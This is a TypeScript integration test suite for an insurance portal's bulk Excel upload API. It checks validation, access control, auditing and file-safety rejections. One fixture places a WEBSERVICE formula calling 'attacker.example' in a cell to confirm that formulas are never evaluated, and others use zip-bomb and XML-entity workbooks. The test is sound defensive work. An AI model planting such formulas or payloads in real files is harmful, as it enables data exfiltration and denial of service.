import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ContractId, ContractKind } from '../../../core/appointments/contracts.ts';
import { AppointmentMessage } from '../../../core/orders/appointment-form.ts';
import { MARKETPLACE_SOURCE } from '../../../core/esales/bulk-form.ts';
import { bulkColumns } from '../../../core/esales/bulk-template.ts';
import { startTestServer, TEST_ENGINES, type TestServer } from '../testing/test-server.ts';
import { FIXTURE } from '../testing/fixture.ts';
import { multipartForm } from '../testing/multipart-form.ts';
import { entityWorkbook, filledWorkbook, lyingZipBomb, zipBomb } from '../testing/bulk-workbooks.ts';

const U = FIXTURE.users;
const NOT_EXCEL = 'File is not an excel or is corrupted';
const TELE_PACKAGE = 930001;
const MONTH = { start: '2026-10-22', end: '2026-11-22' };

describe.each(TEST_ENGINES)('bulk case creation on %s', (engine) => {
  let s: TestServer;
  let admin: string;
  let agent: string;
  let otherInsurer: string;
  let lab: string;
  let acme: number;
  let globex: number;
  let initech: number;

  const fields = (over: Record<string, string | number> = {}) => ({
    sourceId: MARKETPLACE_SOURCE.sourceId, contractId: ContractId.Esales, entityRelationId: acme, entityName: 'Acme Ltd', userName: U.insureradmin.userName, ...over,
  });
  const upload = (bytes: Buffer, over: Record<string, string | number> = {}, token = admin) => {
    const f = multipartForm(fields(over), { name: 'cases.xlsx', bytes, field: 'excel_file', type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' });
    return s.call('POST', '/api/insurance/uploadExcelOrders', { body: f.body, headers: f.headers, token });
  };
  const caseCount = async () => (await s.db.query<{ n: number }>('SELECT count(*)::int AS n FROM esales_case'))[0]!.n;
  const queueTotal = async (token = admin) =>
    (await s.call('POST', '/api/insurance/searchEsalesQueue', { body: { page: 0, dateType: 'RequestCreationDate', ...MONTH }, token })).json().queueRequests.totalQueueRequest;

  beforeAll(async () => {
    s = await startTestServer(engine);
    const rel = async (id: number) => (await s.db.query<{ r: number }>('SELECT entity_relation_id AS r FROM corporate WHERE id = $1', [id]))[0]!.r;
    [acme, globex, initech] = [await rel(301), await rel(302), await rel(401)];
    await s.db.query(`INSERT INTO tele_package (id, contract_id, entity_relation_id, alias_name) VALUES ($1, 7311, $2, 'Tele Medical Basic'), ($1 + 1, 7311, $3, 'Tele Medical Globex'), ($1 + 2, 7311, $4, 'Initech Tele')`, [TELE_PACKAGE, acme, globex, initech]);
    [admin, agent, otherInsurer, lab] = await Promise.all([U.insureradmin, U.insureragent, U.otherInsurer, U.dcadmin].map((u) => s.signIn(u.userName)));
  }, 60_000);
  afterAll(() => s?.close());

  it('lists contracts, children and tele-underwriting packages of the caller only', async () => {
    const contracts = (await s.call('GET', '/api/insurance/getAllContracts/', { token: agent })).json().contracts;
    expect(contracts.map((c: { contractType: string }) => c.contractType).sort()).toEqual(['CORPORATE', 'ESALES', 'PRE_EMPLOYMENT', 'PRE_POLICY', 'TELE_UNDERWRITING']);
    expect(contracts[0].entityRelationIds).toEqual([acme, globex]);
    expect((await s.call('GET', `/api/insurance/GetChildEntityRelation/${FIXTURE.insurerId}`, { token: agent })).json().children).toEqual([
      { entityId: 301, entityRelationId: acme, entityName: 'Acme Ltd' },
      { entityId: 302, entityRelationId: globex, entityName: 'Globex' },
    ]);
    expect((await s.call('GET', `/api/insurance/GetChildEntityRelation/${FIXTURE.otherInsurerId}`, { token: agent })).statusCode).toBe(403);
    const packages = (body: object, token = agent) => s.call('POST', '/api/insurance/packageEntityRelationList', { body, token });
    expect((await packages({ EntityRelationIds: [acme], contractId: 7311 })).json().packagesTests).toEqual([{ productEntityRelationId: TELE_PACKAGE, packageAliasName: 'Tele Medical Basic' }]);
    expect((await packages({ EntityRelationIds: [initech], contractId: 7311 })).statusCode).toBe(403);
    expect((await packages({ EntityRelationIds: [acme], contractId: 7311 }, lab)).statusCode).toBe(403);
    const entities = (await s.call('POST', '/api/insurance/getEntityDetails', { body: { entityIds: [302, 401, 300] }, token: admin })).json().entities;
    expect(entities.map((e: { entityName: string }) => e.entityName)).toEqual(['Globex', 'Fixture Insurance']);
  });

  it("tells the portal a user's assigned contracts (properties 'Assigned Contracts')", async () => {
    const properties = async () => (await s.call('GET', '/api/provider/ProfileDetails', { token: agent })).json().userProfile.userDetails.properties;
    expect(await properties()).toEqual({ AgentId: 'AG-1' });
    await s.db.query(`UPDATE app_user SET assigned_contracts = '{7311,4625}' WHERE id = $1`, [U.insureragent.id]);
    expect(await properties()).toEqual({ AgentId: 'AG-1', 'Assigned Contracts': '7311,4625' });
    await s.db.query(`UPDATE app_user SET assigned_contracts = '{}' WHERE id = $1`, [U.insureragent.id]);
  });

  it('serves a real .xlsx template whose sample row the importer accepts', async () => {
    const res = await s.call('GET', `/api/insurance/downloadSampleFormat?contractId=${ContractId.Esales}`, { token: agent });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('spreadsheetml');
    expect(res.headers['content-disposition']).toContain('E-Sales-bulk-cases.xlsx');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    expect((book.worksheets[0]!.getRow(1).values as unknown[]).slice(1)).toEqual(bulkColumns(ContractKind.Esales).map((c) => c.header));
    const dry = await upload(res.rawPayload, { dryRun: 'true' }, agent);
    expect(dry.json()).toEqual({ isSuccess: true, errorMessage: null, error: null, createdCount: 0, rowErrors: [] });
    expect((await s.call('GET', '/api/insurance/downloadSampleFormat?contractId=1', { token: agent })).statusCode).toBe(404);
  });

  it('creates every case of a good file in one go; they show in the queue at once and are audited', async () => {
    const before = await queueTotal();
    const res = await upload(await filledWorkbook(ContractKind.Esales, 25));
    expect(res.json()).toEqual({ isSuccess: true, errorMessage: null, error: null, createdCount: 25, rowErrors: [] });
    expect(await queueTotal()).toBe(before + 25);
    expect(await queueTotal(agent)).toBe(before + 25);
    expect(await queueTotal(otherInsurer)).toBe(0);
    const found = (await s.call('POST', '/api/insurance/searchEsalesQueue', { body: { page: 0, dateType: 'RequestCreationDate', ...MONTH, searchBy: 'MemberId', id: 'MEM-00007' }, token: agent })).json();
    expect(found.queueRequests.queueList).toMatchObject([
      { name: 'Member Number 7', phoneNo: '9876543210', email: 'asha.verma@example.com', corporateName: 'Acme Ltd', requestJSON: { city: 'Bengaluru', state: 'Karnataka', memberId: 'MEM-00007', applicationNo: 'AP-100001' } },
    ]);
    const [audit] = await s.db.query<{ actor_user_id: number; details: string }>(`SELECT actor_user_id, details FROM audit_event WHERE action = 'CasesCreated'`);
    expect(audit!.actor_user_id).toBe(U.insureradmin.id);
    expect(JSON.parse(audit!.details)).toMatchObject({ cases: 25, corporateId: 301, sourceId: MARKETPLACE_SOURCE.sourceId });
  });

  it('creates nothing when one row is bad, and names its row, column and reason', async () => {
    const before = await caseCount();
    const bytes = await filledWorkbook(ContractKind.Esales, 30, (i) => (i === 11 ? { Mobile: '12345', Gender: 'F' } : i === 20 ? { Name: 'Ab' } : {}));
    const res = await upload(bytes);
    expect(res.statusCode).toBe(200);
    expect(res.json()).toEqual({
      isSuccess: false, errorMessage: '2 rows have errors; nothing was created', error: null, createdCount: 0,
      rowErrors: [
        { row: 13, column: 'Gender', reason: AppointmentMessage.gender },
        { row: 13, column: 'Mobile', reason: AppointmentMessage.phone },
        { row: 22, column: 'Name', reason: AppointmentMessage.name },
      ],
    });
    expect(await caseCount()).toBe(before);
  });

  it('creates nothing on a dry run, and reports a missing template column on row 1', async () => {
    const before = await caseCount();
    expect((await upload(await filledWorkbook(ContractKind.Esales, 3), { dryRun: 'true' })).json()).toMatchObject({ isSuccess: true, createdCount: 0 });
    const corporate = await filledWorkbook(ContractKind.Corporate, 2);
    expect((await upload(corporate)).json()).toMatchObject({ isSuccess: false, rowErrors: [{ row: 1, column: 'Application No', reason: 'This column of the template is missing' }] });
    expect(await caseCount()).toBe(before);
  });

  it('reads a formula cell as its cached value and never evaluates it', async () => {
    const bytes = await filledWorkbook(ContractKind.Esales, 2, (i) => ({
      Mobile: { formula: 'CONCATENATE("98765","43210")', result: '9876543210' },
      'Unique ID': i === 0 ? { formula: 'A1&"x"', result: 'FORMULA-1' } : 'PLAIN-2',
      City: { formula: 'WEBSERVICE("http://attacker.example/")', result: 'Pune' },
      // A date cell and a number cell, as Excel stores what a person types there.
      'Date of Birth': new Date(Date.UTC(1985, 3, 12)),
      'Sum Assured': 500000,
    }));
    expect((await upload(bytes)).json()).toMatchObject({ isSuccess: true, createdCount: 2 });
    const rows = await s.db.query<{ phone: string; city: string; dob: string; sum: string }>(
      `SELECT phone, request_json->>'city' AS city, request_json->>'dateOfBirth' AS dob, request_json->>'sumAssured' AS sum FROM esales_case WHERE member_id = 'FORMULA-1'`,
    );
    expect(rows).toEqual([{ phone: '9876543210', city: 'Pune', dob: '1985-04-12', sum: '500000' }]);
  });

  it('refuses what is not an excel, a zip bomb and an entity declaration before parsing, creating nothing', async () => {
    const before = await caseCount();
    for (const bytes of [Buffer.from('Name,Unique ID\nAsha,1\n'), Buffer.from('%PDF-1.7 not a sheet'), await zipBomb(), await lyingZipBomb(), await entityWorkbook()]) {
      const res = await upload(bytes);
      expect(res.statusCode).toBe(200);
      expect(res.json()).toMatchObject({ isSuccess: false, errorMessage: NOT_EXCEL, createdCount: 0, rowErrors: [] });
    }
    const oversized = Buffer.concat([await filledWorkbook(ContractKind.Esales, 1), Buffer.alloc(10 * 1024 * 1024)]);
    expect((await upload(oversized)).json()).toMatchObject({ isSuccess: false, errorMessage: 'File is larger than 10 MB', createdCount: 0 });
    expect(await caseCount()).toBe(before);
  }, 60_000);

  it('creates tele-underwriting cases only with a package of the entity', async () => {
    const bytes = await filledWorkbook(ContractKind.TeleUnderwriting, 2, (i) => ({ 'Unique ID': `TELE-${i}` }));
    const tele = { contractId: ContractId.TeleUnderwriting, sourceId: FIXTURE.insurerId };
    expect((await upload(bytes, tele)).statusCode).toBe(400);
    expect((await upload(bytes, { ...tele, teleUnderwritingProductId: TELE_PACKAGE + 1 })).statusCode).toBe(400);
    expect((await upload(bytes, { ...tele, sourceId: MARKETPLACE_SOURCE.sourceId, teleUnderwritingProductId: TELE_PACKAGE })).statusCode).toBe(400);
    expect((await upload(bytes, { ...tele, teleUnderwritingProductId: TELE_PACKAGE }, agent)).json()).toMatchObject({ isSuccess: true, createdCount: 2 });
    const [row] = await s.db.query<{ tele_package_id: number; contract_id: number }>(`SELECT tele_package_id, contract_id FROM esales_case WHERE member_id = 'TELE-0'`);
    expect(row).toEqual({ tele_package_id: TELE_PACKAGE, contract_id: ContractId.TeleUnderwriting });
  });

  it("refuses other roles (403) and another insurer's entity (403), creating nothing", async () => {
    const before = await caseCount();
    const bytes = await filledWorkbook(ContractKind.Esales, 1, () => ({ 'Unique ID': 'SCOPE-1' }));
    expect((await upload(bytes, {}, lab)).statusCode).toBe(403);
    expect((await upload(bytes, {}, otherInsurer)).statusCode).toBe(403);
    expect((await upload(bytes, { entityRelationId: initech })).statusCode).toBe(403);
    const mareport = await s.signIn(U.mareport.userName);
    expect((await upload(bytes, {}, mareport)).statusCode).toBe(403);
    expect((await s.call('GET', `/api/insurance/downloadSampleFormat?contractId=${ContractId.Esales}`, { token: mareport })).statusCode).toBe(403);
    expect((await upload(bytes, { sourceId: 999 })).statusCode).toBe(400);
    expect(await caseCount()).toBe(before);
  });
});
